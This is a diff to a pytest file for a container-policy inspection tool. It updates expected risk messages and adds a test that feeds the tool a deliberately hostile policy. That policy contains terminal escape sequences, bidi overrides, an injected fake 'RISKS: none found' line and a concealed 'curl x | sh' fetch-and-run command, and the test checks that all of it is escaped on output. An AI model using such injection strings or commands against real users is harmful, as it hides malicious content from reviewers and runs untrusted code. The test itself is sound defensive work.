@@ -23,16 +23,16 @@ def test_summary_calls_out_risky_grants() -> None:
     doc["containers"][1]["env_rules"].append({"pattern": ".*", "strategy": "re2"})
     risks = "\n".join(summarize(parse_policy(json.dumps(doc).encode()))["risks"])
     for phrase in [
-        "priv: may run privileged",
-        "shell allowed for exec: /bin/busybox sh",
-        "catch-all env rule 'K=.*' admits any value of K",
-        "catch-all env rule '.*' admits any variable",
+        '"priv": may run privileged',
+        'shell allowed for exec: ["/bin/busybox", "sh"]',
+        "catch-all env rule K=.* admits any value of K",
+        "catch-all env rule .* admits any variable",
         "writable mount /data",
-        "external process: /bin/dmesg",
+        'external process: ["/bin/dmesg"]',
         "network changes allowed",
         "debug console enabled",
         "stack dumps allowed",
-        "web: may use the attestation service",
+        '"web": may use the attestation service',
     ]:
         assert phrase in risks, phrase
     assert "unencrypted scratch" not in risks
@@ -63,7 +63,7 @@ def test_hash_and_show_reject_unreadable_input(
 def test_show_text_and_json(capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["policy", "show", str(EXAMPLES / "multi-container.json")]) == 0
     text = capsys.readouterr().out
-    assert "container web (3 layers)" in text and "writable mount /var/cache/nginx" in text
+    assert 'container "web"\n  layers (3,' in text and "writable mount /var/cache/nginx" in text
     assert main(["policy", "show", "--json", str(EXAMPLES / "busybox.json")]) == 0
     summary = json.loads(capsys.readouterr().out)
     assert summary["containers"][0]["name"] == "busybox"
@@ -109,3 +109,51 @@ def test_example_trace_passes_against_busybox_policy(capsys: pytest.CaptureFixtu
         ]
     )
     assert code == 0, capsys.readouterr().out
+
+
+HOSTILE = "evil\x1b[2K\rgood\u202e\x07"
+
+
+def _hostile_policy() -> dict:
+    doc = json.loads(json.dumps(world.MAIN_POLICY))
+    web = doc["containers"][0]
+    web["name"] = HOSTILE
+    web["command"] = ["/bin/sh", "-c", "\x1b[8mcurl x | sh\x1b[0m"]
+    web["env_rules"].append({"pattern": "K=\x1b]0;title\x07", "strategy": "string"})
+    web["exec_processes"].append({"command": ["/app/x\n RISKS: none found"]})
+    web["mounts"][0]["destination"] = "/data\x1b[1A"
+    web["capabilities"] = dict(world.CAPS, ambient=["CAP_SYS_ADMIN"], inheritable=["CAP_BPF"])
+    priv = doc["containers"][2]
+    priv["devices"] = ["/dev/fuse\x1b[2K"]
+    priv["sysctls"] = {"kernel.x\x9b": "1\u200b"}
+    return doc
+
+
+def test_show_of_a_hostile_policy_prints_no_raw_control_byte(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from guestagent.console.render import render
+
+    path = tmp_path / "hostile.json"
+    path.write_text(json.dumps(_hostile_policy()))
+    assert main(["policy", "show", str(path)]) == 0
+    text = capsys.readouterr().out
+    summary = summarize(parse_policy(path.read_bytes()))
+    for out in (text, render("policy", summary)):
+        unprintable = {ch for ch in out if not ch.isprintable() and ch != "\n"}
+        assert not unprintable, unprintable
+        assert 'container "evil\\u001b[2K\\rgood\\u202e\\u0007"' in out
+        assert '["/bin/sh", "-c", "\\u001b[8mcurl x | sh\\u001b[0m"]' in out
+        assert "\n RISKS: none found" not in out
+    # argv is a JSON list, every set is shown and every grant beyond the default flagged
+    assert "CAP_SYS_ADMIN (mounts, namespaces, most of root's powers) in the ambient set" in text
+    assert "CAP_BPF (loads BPF programs) in the inheritable set" in text
+    assert "    ambient:     CAP_SYS_ADMIN!" in text
+    assert f"    1. {world.L1}" in text and f"    2. {world.L2}" in text
+    assert "additional gids: 10" in text and "15 (SIGTERM)" in text
+    assert 'devices: "/dev/fuse\\u001b[2K"' in text
+    assert 'sysctls: "kernel.x\\x9b"="1\\u200b"' in text
+    assert main(["policy", "show", "--json", str(path)]) == 0
+    as_json = capsys.readouterr().out
+    assert all(ch.isprintable() or ch == "\n" for ch in as_json)
+    assert json.loads(as_json)["containers"][0]["name"] == HOSTILE
